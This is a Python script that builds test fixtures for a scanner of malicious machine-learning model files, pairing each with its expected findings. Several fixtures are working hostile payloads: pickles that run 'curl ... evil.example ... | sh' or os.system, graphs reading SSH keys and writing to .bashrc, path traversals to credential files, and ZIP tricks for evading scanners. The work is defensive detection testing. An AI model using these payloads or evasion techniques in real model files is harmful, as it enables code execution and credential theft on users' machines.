#!/usr/bin/env python3
"""Regenerates the model-file fixtures of the AISec model-files rules.

Every pickle here is produced by CPython's own `pickle` module and every archive by `zipfile`, `tarfile`,
`gzip`, `zlib` or `bz2`; nothing needs numpy, torch, joblib or keras. Where a fixture must name a global
of a library that is not installed (torch._utils._rebuild_tensor_v2, numpy.core.multiarray._reconstruct,
joblib.numpy_pickle.NumpyArrayWrapper, ...), a stand-in module is registered in `sys.modules` so that the
real pickler writes exactly the GLOBAL/STACK_GLOBAL opcodes the library would. Layouts follow what the
libraries write: torch.save's zip (archive/data.pkl, data/<key>, byteorder, version) and its legacy
stacked pickles, joblib's NumpyPickler (array bytes written after the wrapper's BUILD, aligned to 16
bytes), numpy's .npy header, the Keras v3 .keras zip (config.json, metadata.json, model.weights.h5) and
the safetensors header. A few fixtures are hand-built hostile bytes (an unresolvable STACK_GLOBAL, an
extension-registry code); they say so in their builder. HDF5 files are synthetic: the HDF5 signature and
a `model_config` attribute name followed by the JSON text, which is what the scanner's documented
heuristic reads (h5py is not available here).

Usage: python3 scripts/gen-model-fixtures.py [--out DIR]
Output is deterministic (fixed zip timestamps, gzip mtime 0). Each fixture gets a `<name>.expect`
sidecar when it should raise findings (`1: AIS601`, line 1 meaning the whole file).
"""
import argparse
import bz2
import collections
import gzip
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import types
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_OUT = os.path.join(HERE, '..', 'server', 'src', 'rules', 'model-files', 'fixtures')
ZIP_TIME = (2024, 1, 1, 0, 0, 0)


# --- Stand-in library modules (so the real pickler writes the real global names) ----------------------

def stand_in(module_name, **members):
    parts = module_name.split('.')
    for i in range(1, len(parts) + 1):
        name = '.'.join(parts[:i])
        if name not in sys.modules:
            sys.modules[name] = types.ModuleType(name)
        if i > 1:
            setattr(sys.modules['.'.join(parts[:i - 1])], parts[i - 1], sys.modules[name])
    module = sys.modules[module_name]
    for attr, value in members.items():
        if isinstance(value, type) or callable(value):
            value.__module__ = module_name
            value.__qualname__ = attr
            value.__name__ = attr
        setattr(module, attr, value)
    return module


def _rebuild_tensor_v2(*args):
    raise RuntimeError('stand-in')


class FloatStorage:
    pass


def _reconstruct(*args):
    raise RuntimeError('stand-in')


class ndarray:
    pass


class dtype:
    def __init__(self, descr, itemsize):
        self.descr = descr
        self.itemsize = itemsize

    def __reduce__(self):
        # numpy.dtype pickles as dtype(descr, False, True) plus a state tuple (version, byteorder, ...).
        return (dtype, (self.descr, False, True), (3, '<' if self.descr[0] != '|' else '|', None, None, None, -1, -1, 0))

    def __setstate__(self, state):
        pass


class NumpyArrayWrapper:
    pass


class Linear:
    pass


class TrainingPipeline:
    """A class of a user library: not on the allow list, so loading it is 'suspicious'."""


stand_in('torch._utils', _rebuild_tensor_v2=_rebuild_tensor_v2)
stand_in('torch', FloatStorage=FloatStorage)
stand_in('numpy.core.multiarray', _reconstruct=_reconstruct)
stand_in('numpy', ndarray=ndarray, dtype=dtype)
stand_in('joblib.numpy_pickle', NumpyArrayWrapper=NumpyArrayWrapper)
stand_in('mylab.pipelines', TrainingPipeline=TrainingPipeline)
# Real pickles of os.system name `posix.system` on Linux; attackers write `os.system`, so do we.
os.system.__module__ = 'os'


class Storage:
    def __init__(self, key, numel, data):
        self.key, self.numel, self.data = key, numel, data


class Tensor:
    def __init__(self, storage, size):
        self.storage, self.size = storage, size

    def __reduce_ex__(self, protocol):
        return (_rebuild_tensor_v2, (self.storage, 0, self.size, (1,), False, collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    """Mimics torch.save: storages become persistent ids ('storage', type, key, location, numel)."""

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ('storage', FloatStorage, obj.key, 'cpu', obj.numel)
        return None


class Payload:
    """An object whose unpickling calls `fn(*args)`: the shape of every malicious pickle."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def torch_pickle(obj):
    out = io.BytesIO()
    TorchPickler(out, protocol=2).dump(obj)
    return out.getvalue()


def pt2_node(target, inputs, output, subgraphs=()):
    """One node of a serialised ExportedProgram graph (torch/_export/serde/schema.py: Node {target, inputs: [NamedArgument
    {name, arg}], outputs, metadata}); a higher-order op carries its branches as `as_graph` arguments."""
    args = [{'name': name, 'arg': {'as_tensor': {'name': value}}, 'kind': 1} for name, value in inputs]
    args += [{'name': name, 'arg': {'as_graph': {'name': name, 'graph': {'inputs': [], 'outputs': [], 'nodes': nodes}}}, 'kind': 1}
             for name, nodes in subgraphs]
    return {'target': target, 'inputs': args, 'outputs': [{'as_tensor': {'name': output}}], 'metadata': {'stack_trace': 'File "model.py", line 9, in forward'}}


def pt2_archive(nodes, opsets=None, extra_members=(), sample_inputs=None, name='model'):
    """A torch.export archive as torch 2.x writes it (pytorch docs/source/export/pt2_archive.md): everything under one
    folder, `archive_format`, `.data/version`, `byteorder`, `models/<name>.json` (the ExportedProgram), raw weights
    under `data/weights/`, and `data/sample_inputs/<name>.pt` written by torch.save (a pickle ZIP). torch 1.13 has no
    torch.export, so the archive is assembled here from that layout."""
    program = {'graph_module': {'graph': {'inputs': [{'as_tensor': {'name': 'x'}}], 'outputs': [{'as_tensor': {'name': nodes[-1]['outputs'][0]['as_tensor']['name']}}],
                                          'nodes': nodes, 'tensor_values': {}, 'sym_int_values': {}, 'sym_bool_values': {}, 'is_single_tensor_return': True},
                                'signature': {'input_specs': [], 'output_specs': []}, 'module_call_graph': []},
               'opset_version': opsets or {'aten': 10}, 'range_constraints': {}, 'schema_version': {'major': 8, 'minor': 1}, 'verifiers': [], 'torch_version': '2.5.0'}
    sd, storages = state_dict() if sample_inputs is None else sample_inputs
    members = [('archive/archive_format', b'pt2'), ('archive/archive_version', b'0'), ('archive/.data/version', b'1'),
               ('archive/.data/serialization_id', b'0123456789'), ('archive/byteorder', b'little'),
               (f'archive/models/{name}.json', json.dumps(program).encode()),
               ('archive/data/weights/model_weights_config.json', b'{"config": {"fc.weight": {"path_name": "weight_0", "is_param": true}}}'),
               ('archive/data/weights/weight_0', floats(4)),
               (f'archive/data/sample_inputs/{name}.pt', torch_zip(sd, storages, prefix='sample_inputs'))]
    return zip_bytes(members + list(extra_members))


def floats(n, start=0.0):
    return struct.pack('<%df' % n, *[start + i * 0.5 for i in range(n)])


def state_dict(extra=None):
    weight = Storage('0', 4, floats(4))
    bias = Storage('1', 2, floats(2, 1.0))
    sd = collections.OrderedDict()
    sd['fc.weight'] = Tensor(weight, (2, 2))
    sd['fc.bias'] = Tensor(bias, (2,))
    if extra is not None:
        sd['_metadata'] = extra
    return sd, [weight, bias]


def zip_bytes(members, compression=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', compression) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = compression
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return out.getvalue()


def torch_zip(obj, storages, prefix='archive'):
    members = [(f'{prefix}/data.pkl', torch_pickle(obj)), (f'{prefix}/byteorder', b'little')]
    members += [(f'{prefix}/data/{s.key}', s.data) for s in storages]
    members += [(f'{prefix}/version', b'3\n'), (f'{prefix}/.data/serialization_id', b'0123456789')]
    return zip_bytes(members)


def legacy_torch(obj, storages):
    out = io.BytesIO()
    for value in (0x1950a86a20f9469cfc6c, 1001, {'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}):
        pickle.dump(value, out, protocol=2)
    TorchPickler(out, protocol=2).dump(obj)
    pickle.dump([s.key for s in storages], out, protocol=2)
    for s in storages:
        out.write(struct.pack('<q', s.numel))
        out.write(s.data)
    return out.getvalue()


def set_encrypted(archive):
    """Sets bit 0 (encrypted) of the general-purpose flags in every local and central header."""
    data = bytearray(archive)
    for signature, flag_offset in ((b'PK\x03\x04', 6), (b'PK\x01\x02', 8)):
        at = data.find(signature)
        while at != -1:
            data[at + flag_offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def set_member_flag(archive, name, bit):
    """Sets one general-purpose flag bit on one member, in its central-directory record only (loaders ignore the local one)."""
    data = bytearray(archive)
    at = data.find(b'PK\x01\x02')
    while at != -1:
        length = struct.unpack_from('<H', data, at + 28)[0]
        if bytes(data[at + 46: at + 46 + length]) == name.encode():
            struct.pack_into('<H', data, at + 8, struct.unpack_from('<H', data, at + 8)[0] | bit)
        at = data.find(b'PK\x01\x02', at + 4)
    return bytes(data)


def break_member_crc(archive, name):
    """Flips the CRC of one member in both headers (PyTorch never checks it; zipfile refuses the member)."""
    data = bytearray(archive)
    for signature, crc_offset, name_offset, length_offset in ((b'PK\x03\x04', 14, 30, 26), (b'PK\x01\x02', 16, 46, 28)):
        at = data.find(signature)
        while at != -1:
            length = struct.unpack_from('<H', data, at + length_offset)[0]
            if bytes(data[at + name_offset: at + name_offset + length]) == name.encode():
                data[at + crc_offset] ^= 0xff
            at = data.find(signature, at + 4)
    return bytes(data)


def set_declared_count(archive, count):
    """Rewrites the entry counts of the end record (both 16-bit fields), as a writer whose count wrapped would."""
    data = bytearray(archive)
    eocd = data.rfind(b'PK\x05\x06')
    struct.pack_into('<HH', data, eocd + 8, count, count)
    return bytes(data)


def rename_local_header(archive, name, new_name):
    """Renames one member in its local header only (same length), keeping the central-directory name."""
    assert len(name) == len(new_name)
    data = bytearray(archive)
    at = data.find(b'PK\x03\x04')
    while at != -1:
        length = struct.unpack_from('<H', data, at + 26)[0]
        if bytes(data[at + 30:at + 30 + length]) == name.encode():
            data[at + 30:at + 30 + length] = new_name.encode()
            return bytes(data)
        at = data.find(b'PK\x03\x04', at + 4)
    raise ValueError(name)


def hide_local_member(archive, name, payload):
    """Inserts a stored member before the central directory that no directory entry lists (only streaming readers see it)."""
    data = bytearray(archive)
    eocd = data.rfind(b'PK\x05\x06')
    size, offset = struct.unpack_from('<II', data, eocd + 12)
    header = struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 0, 0, 0x21, zlib.crc32(payload), len(payload), len(payload), len(name), 0)
    inserted = header + name.encode() + payload
    struct.pack_into('<I', data, eocd + 16, offset + len(inserted))
    return bytes(data[:offset]) + inserted + bytes(data[offset:])


def npy(descr, shape, payload):
    header = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, repr(tuple(shape)))
    total = 10 + len(header) + 1
    header += ' ' * ((64 - total % 64) % 64) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode('latin1') + payload


class FakeArray:
    def __init__(self, descr, itemsize, shape, data):
        self.dtype = dtype(descr, itemsize)
        self.shape, self.data = shape, data


class PyJoblibPickler(pickle._Pickler):
    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, FakeArray):
            wrapper = NumpyArrayWrapper()
            wrapper.__dict__.update({'subclass': ndarray, 'shape': obj.shape, 'order': 'C', 'dtype': obj.dtype,
                                     'allow_mmap': True, 'numpy_array_alignment_bytes': 16})
            pickle._Pickler.save(self, wrapper)
            if self.proto >= 4:
                self.framer.commit_frame(force=True)
            position = self.file_handle.tell()
            padding = 16 - ((position + 1) % 16)
            self.file_handle.write(bytes([padding]) + b'\xff' * padding)
            self.file_handle.write(obj.data)
            return
        return pickle._Pickler.save(self, obj, save_persistent_id)


def joblib_bytes(obj, protocol=4):
    out = io.BytesIO()
    pickler = PyJoblibPickler(out, protocol=protocol)
    pickler.file_handle = out
    pickler.dump(obj)
    return out.getvalue()


def keras_zip(config):
    metadata = {'keras_version': '3.6.0', 'date_saved': '2024-01-01@00:00:00'}
    weights = b'\x89HDF\r\n\x1a\n' + b'\x00' * 56
    return zip_bytes([('metadata.json', json.dumps(metadata).encode()), ('config.json', json.dumps(config).encode()),
                      ('model.weights.h5', weights)], zipfile.ZIP_DEFLATED)


def keras_layer(class_name, name, extra=None, module='keras.layers'):
    config = {'name': name, 'trainable': True, 'dtype': 'float32'}
    config.update(extra or {})
    return {'module': module, 'class_name': class_name, 'config': config, 'registered_name': None}


def keras_model(layers):
    return {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 'sequential', 'layers': layers}, 'registered_name': None}


def synthetic_h5(model_config):
    """HDF5 signature, padding, the attribute name and the JSON text (see the module docstring)."""
    body = b'\x89HDF\r\n\x1a\n' + b'\x00' * 88 + b'TREE' + b'\x00' * 40 + b'HEAP' + b'\x00' * 24
    if model_config is not None:
        body += b'model_config\x00\x00\x00\x00' + b'\x13\x00\x00\x00' + json.dumps(model_config).encode() + b'\x00' * 8
    body += b'SNOD' + b'\x00' * 64 + struct.pack('<8f', *[0.25 * i for i in range(8)])
    return body


def varint(value):
    """A protobuf base-128 varint."""
    out = b''
    while True:
        byte = value & 0x7f
        value >>= 7
        out += bytes([byte | (0x80 if value else 0)])
        if not value:
            return out


def proto_field(number, payload):
    """A length-delimited protobuf field (wire type 2)."""
    return varint((number << 3) | 2) + varint(len(payload)) + payload


def tf_graph(nodes):
    """A GraphDef: repeated NodeDef node = 1; NodeDef {name = 1, op = 2, input = 3}; hand-encoded (no TensorFlow here)."""
    graph = b''
    for name, op, inputs in nodes:
        node = proto_field(1, name.encode()) + proto_field(2, op.encode()) + b''.join(proto_field(3, i.encode()) for i in inputs)
        graph += proto_field(1, node)
    return graph + proto_field(4, b'\x08\xb0\x01')  # versions {producer: 176}


def proto_varint(number, value):
    """A varint protobuf field (wire type 0)."""
    return varint(number << 3) + varint(value)


def tf_node(name, op, inputs=(), value=None):
    """A NodeDef; `value` makes a string Const: attr = 5 { key = 1: "value", value = 2: AttrValue { tensor = 8:
    TensorProto { dtype = 1: DT_STRING (7), string_val = 8 } } } (framework/node_def.proto, attr_value.proto, tensor.proto)."""
    node = proto_field(1, name.encode()) + proto_field(2, op.encode()) + b''.join(proto_field(3, i.encode()) for i in inputs)
    if value is not None:
        node += proto_field(5, proto_field(1, b'dtype') + proto_field(2, proto_varint(6, 7)))
        node += proto_field(5, proto_field(1, b'value') + proto_field(2, proto_field(8, proto_varint(1, 7) + proto_field(8, value.encode()))))
    return node


def saved_model(graph_nodes, functions, assets=(), asset_tensors=None):
    """A SavedModel: schema version = 1, meta_graphs = 2 { graph_def = 2 { node = 1, library = 2 { function = 1 {
    signature = 1 { name = 1 }, node_def = 3 } } }, asset_file_def = 6 { tensor_info = 1 { name = 1 }, filename = 2 } },
    hand-encoded from tensorflow/core/protobuf/saved_model.proto, meta_graph.proto, framework/graph.proto and
    function.proto (no TensorFlow here)."""
    library = b''.join(proto_field(1, proto_field(1, proto_field(1, name.encode())) + b''.join(proto_field(3, tf_node(*n)) for n in nodes))
                       for name, nodes in functions)
    graph = b''.join(proto_field(1, tf_node(*n)) for n in graph_nodes) + proto_field(2, library) + proto_field(4, b'\x08\xb0\x01')
    meta_graph = proto_field(1, proto_field(4, b'serve')) + proto_field(2, graph)
    for i, filename in enumerate(assets):
        tensor = asset_tensors[i] if asset_tensors else f'asset_path_{i}:0'
        meta_graph += proto_field(6, proto_field(1, proto_field(1, tensor.encode())) + proto_field(2, filename.encode()))
    return proto_varint(1, 1) + proto_field(2, meta_graph)


def onnx_model(nodes, initializers=(), opsets=(('', 13),), functions=()):
    """An ONNX ModelProto (onnx/onnx.proto field numbers: ir_version = 1, producer_name = 2, graph = 7,
    opset_import = 8, functions = 25), hand-encoded; the real-library samples in test/model-files/real-samples/
    come from python3-onnx itself."""
    graph = b''.join(proto_field(1, n) for n in nodes) + proto_field(2, b'g') + b''.join(proto_field(5, t) for t in initializers)
    model = proto_varint(1, 8) + proto_field(2, b'aisec-fixtures') + proto_field(7, graph)
    for domain, version in opsets:
        model += proto_field(8, proto_field(1, domain.encode()) + proto_varint(2, version))
    for f in functions:
        model += proto_field(25, f)
    return model


def onnx_node(op, inputs, outputs, domain='', attributes=()):
    out = b''.join(proto_field(1, i.encode()) for i in inputs) + b''.join(proto_field(2, o.encode()) for o in outputs)
    out += proto_field(4, op.encode()) + b''.join(proto_field(5, a) for a in attributes)
    return out + (proto_field(7, domain.encode()) if domain else b'')


def onnx_tensor(name, raw=None, location=None):
    """TensorProto: dims = 1, data_type = 2 (1 = FLOAT), name = 8, raw_data = 9, external_data = 13 (key = 1,
    value = 2), data_location = 14 (1 = EXTERNAL)."""
    out = proto_varint(1, 4) + proto_varint(2, 1) + proto_field(8, name.encode())
    if raw is not None:
        out += proto_field(9, raw)
    if location is not None:
        out += proto_field(13, proto_field(1, b'location') + proto_field(2, location.encode())) + proto_varint(14, 1)
    return out


def safetensors_bytes(tensors, metadata=None, corrupt=None):
    header = {}
    data = b''
    for name, (dt, shape, raw) in tensors.items():
        header[name] = {'dtype': dt, 'shape': list(shape), 'data_offsets': [len(data), len(data) + len(raw)]}
        data += raw
    if metadata is not None:
        header['__metadata__'] = metadata
    if corrupt:
        corrupt(header)
    text = json.dumps(header, separators=(',', ':')).encode()
    text += b' ' * ((8 - len(text) % 8) % 8)
    return struct.pack('<Q', len(text)) + text + data


def tar_bytes(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w', format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


# --- The fixtures -------------------------------------------------------------------------------------

def fixtures():
    f = {}

    # Plain pickles.
    f['bad-os-system.pkl'] = (pickle.dumps(Payload(os.system, 'curl -s https://evil.example/x | sh'), protocol=0), ['AIS601'])
    f['bad-builtins-exec.pkl'] = (pickle.dumps(Payload(exec, "import os; os.system('id')"), protocol=2), ['AIS601'])
    f['bad-stack-global-memo.pkl'] = (
        pickle.dumps(['subprocess', 'check_output', Payload(subprocess.check_output, ['id'])], protocol=4), ['AIS601'])
    f['bad-getattr-gadget.pkl'] = (pickle.dumps(Payload(getattr, [], 'append'), protocol=4), ['AIS601'])
    f['bad-two-pickles.pkl'] = (pickle.dumps({'ok': 1}, protocol=2) + pickle.dumps(Payload(eval, '__import__("os")'), protocol=2), ['AIS601'])
    f['bad-unknown-global.pkl'] = (pickle.dumps({'pipeline': TrainingPipeline()}, protocol=4), ['AIS602'])
    sd, _ = state_dict()
    f['bad-info-state-dict.pkl'] = (torch_pickle(sd), ['AIS603'])
    f['bad-truncated.pkl'] = (torch_pickle(sd)[:-9], ['AIS603', 'AIS604'])
    # Hand-built hostile bytes: STACK_GLOBAL operands produced by a call, so no scanner can name the global.
    f['bad-unresolvable-global.pkl'] = (
        b'\x80\x04' + b'\x8c\x08builtins\x8c\x03str\x93' + b'\x8c\x02os\x85R' + b'\x8c\x06system\x93' + b'\x8c\x02id\x85R.', ['AIS601'])
    # Hand-built: an extension-registry code (resolved only through copyreg in the loading process).
    f['bad-extension-code.pkl'] = (b'\x80\x02\x82\x07)R.', ['AIS601'])
    f['bad-garbage.pkl'] = (b'\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\xff\xfe\xfd', ['AIS603', 'AIS604'])

    # PyTorch.
    sd, storages = state_dict()
    f['bad-info-state-dict.pt'] = (torch_zip(sd, storages), ['AIS603'])
    sd, storages = state_dict(extra=Payload(os.system, 'touch /tmp/pwned'))
    f['bad-torch-zip-data-pkl.pt'] = (torch_zip(sd, storages, prefix='model'), ['AIS601'])
    sd, storages = state_dict(extra=Payload(__import__('webbrowser').open, 'https://evil.example'))
    f['bad-torch-legacy.pth'] = (legacy_torch(sd, storages), ['AIS601'])
    sd, storages = state_dict()
    f['bad-info-torch-legacy.pth'] = (legacy_torch(sd, storages), ['AIS603'])
    sd, storages = state_dict()
    whole = torch_zip(sd, storages)
    f['bad-truncated-archive.pt'] = (whole[: len(whole) - 60], ['AIS603', 'AIS604'])
    ts_members = [
        ('model/data.pkl', pickle.dumps({'training': True}, protocol=2)),
        ('model/constants.pkl', pickle.dumps((), protocol=2)),
        ('model/code/__torch__/model.py', b'class Model(Module):\n  def forward(self, x):\n    return x\n'),
        ('model/version', b'6\n'),
    ]
    f['bad-torchscript.pt'] = (zip_bytes(ts_members), ['AIS603', 'AIS608'])
    sd, storages = state_dict(extra=Payload(os.system, 'id'))
    inner = torch_zip(sd, storages)
    f['bad-nested-archive.pt'] = (zip_bytes([('bundle/readme.txt', b'weights inside'), ('bundle/inner.pt', inner)]), ['AIS601'])
    deep = torch_zip(*state_dict())
    for i in range(4):
        deep = zip_bytes([(f'level{i}/inner.zip', deep)])
    f['bad-nested-too-deep.pt'] = (deep, ['AIS604'])
    sd, storages = state_dict()
    # A polyglot: a benign legacy pickle up front, a ZIP with a malicious data.pkl at the end.
    f['bad-polyglot.pt'] = (legacy_torch(sd, storages) + torch_zip(*state_dict(extra=Payload(os.system, 'id'))), ['AIS601', 'AIS610'])
    # Hand-patched (picklescan CVE-2025-1944): data.pkl is named differently in its local header; PyTorch reads
    # members by their directory name and loads it, zipfile refuses it.
    sd, storages = state_dict(extra=Payload(os.system, 'id'))
    f['bad-local-name.pt'] = (rename_local_header(torch_zip(sd, storages), 'archive/data.pkl', 'archive/datap.kl'), ['AIS601', 'AIS610'])
    # Hand-patched: the encryption flag set on data.pkl (zipfile cannot write encrypted archives). The data stays
    # plain, so PyTorch and zipfile refuse the member while a reader ignoring the flag loads it: scanned, and AIS604.
    f['bad-encrypted.pt'] = (set_encrypted(torch_zip(*state_dict())), ['AIS603', 'AIS604'])
    f['bad-torch-tar.pt'] = (tar_bytes([('sys_info', pickle.dumps({'little_endian': True}, protocol=2)),
                                        ('pickle', pickle.dumps(Payload(os.system, 'id'), protocol=2)),
                                        ('storages', pickle.dumps(0, protocol=2)), ('tensors', pickle.dumps(0, protocol=2))]), ['AIS601'])

    # NumPy.
    f['good-float-array.npy'] = (npy('<f4', (2, 3), floats(6)), [])
    f['bad-object-array.npy'] = (npy('|O', (1,), pickle.dumps([Payload(os.system, 'id')], protocol=3)), ['AIS601'])
    f['good-arrays.npz'] = (zip_bytes([('weights.npy', npy('<f4', (4,), floats(4))), ('bias.npy', npy('<f8', (1,), struct.pack('<d', 1.5)))],
                                      zipfile.ZIP_DEFLATED), [])
    f['bad-object-array.npz'] = (zip_bytes([('labels.npy', npy('|O', (1,), pickle.dumps([Payload(eval, '1+1')], protocol=3)))]), ['AIS601'])
    # Hand-patched: the end record declares 2 of the 3 members (as a count that wrapped at 65,536 would);
    # zipfile, and so numpy.load, reads all 3 and unpickles labels.npy.
    counted = zip_bytes([('weights.npy', npy('<f4', (4,), floats(4))), ('bias.npy', npy('<f4', (1,), floats(1))),
                         ('labels.npy', npy('|O', (1,), pickle.dumps([Payload(os.system, 'id')], protocol=3)))])
    f['bad-count-lowered.npz'] = (set_declared_count(counted, 2), ['AIS601', 'AIS610'])
    # Hand-patched: a member only streaming readers see (a local header no directory entry lists).
    f['bad-hidden-local-member.npz'] = (hide_local_member(zip_bytes([('weights.npy', npy('<f4', (4,), floats(4)))]), 'labels.npy',
                                                          npy('|O', (1,), pickle.dumps([Payload(eval, '1+1')], protocol=3))), ['AIS601', 'AIS610'])

    # joblib.
    arrays = {'coef_': FakeArray('<f8', 8, (3,), struct.pack('<3d', 0.5, -1.0, 2.0)), 'intercept_': FakeArray('<f8', 8, (1,), struct.pack('<d', 0.25))}
    f['bad-info-joblib-arrays.joblib'] = (joblib_bytes(arrays), ['AIS603'])
    evil = dict(arrays, transform=Payload(os.system, 'id'))
    f['bad-joblib-payload.joblib'] = (joblib_bytes(evil), ['AIS601'])
    f['bad-joblib-zlib.joblib'] = (zlib.compress(joblib_bytes(evil), 3), ['AIS601'])
    f['bad-joblib-gzip.joblib'] = (gzip.compress(joblib_bytes(evil), mtime=0), ['AIS601'])
    f['bad-joblib-bz2.joblib'] = (bz2.compress(joblib_bytes(arrays)), ['AIS604'])

    # Keras.
    dense = keras_layer('Dense', 'dense', {'units': 4, 'activation': 'relu'})
    f['good-dense.keras'] = (keras_zip(keras_model([dense])), [])
    lambda_layer = keras_layer('Lambda', 'lambda', {'function': {'class_name': '__lambda__', 'config': {'code': '4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7pAgAAAKkAKQHaAXhyAgAAAHICAAAA+gc8c3RkaW4+2gg8bGFtYmRhPgEAAADzAAAAAA==', 'defaults': None, 'closure': None}}})
    f['bad-lambda.keras'] = (keras_zip(keras_model([dense, lambda_layer])), ['AIS606'])
    custom = keras_layer('AttentionBlock', 'attention', {'heads': 2}, module='mylab.layers')
    custom['registered_name'] = 'mylab>AttentionBlock'
    f['bad-custom-object.keras'] = (keras_zip(keras_model([dense, custom])), ['AIS607'])
    injected = keras_layer('Dense', 'dense_1', {'units': 1, 'activation': {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'function'}})
    f['bad-module-injection.keras'] = (keras_zip(keras_model([dense, injected])), ['AIS601'])
    legacy_lambda = {'class_name': 'Sequential', 'config': {'name': 'sequential', 'layers': [
        {'class_name': 'Dense', 'config': {'name': 'dense', 'units': 4}},
        {'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': ['4wEAAAAAAAAAAAAAAAEAAAAC', None, None], 'function_type': 'lambda'}}]}}
    f['bad-lambda.h5'] = (synthetic_h5(legacy_lambda), ['AIS606'])
    f['good-dense.h5'] = (synthetic_h5({'class_name': 'Sequential', 'config': {'name': 'sequential', 'layers': [{'class_name': 'Dense', 'config': {'name': 'dense', 'units': 4}}]}}), [])
    f['good-weights-only.h5'] = (synthetic_h5(None), [])

    # TensorFlow graphs.
    f['good-graph.pb'] = (tf_graph([('x', 'Placeholder', []), ('w', 'Const', []), ('y', 'MatMul', ['x', 'w']), ('out', 'Identity', ['y'])]), [])
    f['bad-write-file.pb'] = (tf_graph([('path', 'Const', []), ('data', 'Const', []), ('x', 'Placeholder', []), ('w', 'WriteFile', ['path', 'data'])]), ['AIS609'])
    # SavedModels: ops inside tf.function bodies live only in the function library.
    serving = [('x', 'Placeholder'), ('call', 'StatefulPartitionedCall', ['x']), ('saver', 'SaveV2'), ('restore', 'RestoreV2')]
    f['good-saved-model.pb'] = (saved_model(serving, [('__inference_serve_12', [('mm', 'MatMul', ['x', 'w']), ('out', 'Identity', ['mm'])])]), [])
    f['bad-saved-model-pyfunc.pb'] = (saved_model(serving, [('__inference_serve_12', [('cb', 'EagerPyFunc', ['x']), ('out', 'Identity', ['cb'])])]), ['AIS616'])
    # Asset files are joined to <export dir>/assets/ without containment (a SavedModel asset traversal PoC on the Hub).
    f['good-saved-model-assets.pb'] = (saved_model(serving, [], assets=['vocab.txt', 'tables/labels.txt']), [])
    f['bad-saved-model-asset-escape.pb'] = (saved_model(serving, [], assets=['vocab.txt', '../../../../etc/passwd', '/root/.aws/credentials']), ['AIS618'])
    # A path traced into a tf.function is a Const node: tf.io.read_file('/root/.ssh/id_rsa') through an Identity,
    # and tf.io.write_file('../../.bashrc', ...) in the graph itself.
    f['bad-saved-model-const-path.pb'] = (saved_model(serving + [('dest', 'Const', [], '../../.bashrc'), ('line', 'Const', [], 'curl x | sh'), ('w', 'WriteFile', ['dest', 'line'])],
                                                      [('__inference_serve_9', [('key_path', 'Const', [], '/root/.ssh/id_rsa'), ('key_path_id', 'Identity', ['key_path:output:0']),
                                                                                 ('read', 'ReadFile', ['key_path_id:output:0'])])]), ['AIS609', 'AIS618'])
    # TensorFlow 1 exports keep the export-time absolute vocabulary path in a Const that asset_file_def names (the
    # loader feeds the asset's real path into it), and a relative path of the model's own is no escape either.
    f['good-saved-model-tf1-table.pb'] = (saved_model(serving + [('asset_path', 'Const', [], '/tmp/export-1699/assets/vocab.txt'), ('table', 'HashTableV2', []),
                                                                 ('init', 'InitializeTableFromTextFileV2', ['table', 'asset_path']),
                                                                 ('labels', 'Const', [], 'labels.txt'), ('init2', 'InitializeTableFromTextFileV2', ['table', 'labels'])],
                                                     [], assets=['vocab.txt'], asset_tensors=['asset_path:0']), [])
    f['bad-saved-model-read-file.pb'] = (saved_model(serving, [('__inference_serve_7', [('files', 'MatchingFiles', ['pattern']), ('read', 'ReadFile', ['files'])])]), ['AIS609'])

    # ONNX models.
    weights = onnx_tensor('w', raw=floats(4))
    f['good-matmul.onnx'] = (onnx_model([onnx_node('MatMul', ['x', 'w'], ['y'])], [weights]), [])
    f['good-external-data.onnx'] = (onnx_model([onnx_node('MatMul', ['x', 'w'], ['y'])], [onnx_tensor('w', location='weights/good-external-data.bin')]), [])
    f['bad-external-traversal.onnx'] = (onnx_model([onnx_node('MatMul', ['x', 'w'], ['y'])], [onnx_tensor('w', location='subdir/../../../etc/passwd')]), ['AIS614'])
    body = proto_field(2, b'body') + proto_field(1, onnx_node('Add', ['x', 'k'], ['y'])) + proto_field(5, onnx_tensor('k', location='/etc/shadow'))
    loop_attribute = proto_field(1, b'body') + proto_field(6, body) + proto_varint(20, 5)
    f['bad-external-in-loop-body.onnx'] = (onnx_model([onnx_node('Loop', ['n', 'cond', 'x'], ['y'], attributes=[loop_attribute])]), ['AIS614'])
    f['bad-custom-domain.onnx'] = (onnx_model([onnx_node('Decode', ['x'], ['y'], domain='com.example.ops')], opsets=[('', 13), ('com.example.ops', 1)]), ['AIS615'])
    local_function = proto_field(1, b'Scale') + proto_field(7, onnx_node('Mul', ['x', 'x'], ['y'])) + proto_field(10, b'local.fns')
    f['good-local-function.onnx'] = (onnx_model([onnx_node('Scale', ['x'], ['y'], domain='local.fns')], opsets=[('', 13), ('local.fns', 1)], functions=[local_function]), [])

    # safetensors.
    tensors = {'fc.weight': ('F32', (2, 2), floats(4)), 'fc.bias': ('F32', (2,), floats(2))}
    f['good-weights.safetensors'] = (safetensors_bytes(tensors, {'format': 'pt'}), [])
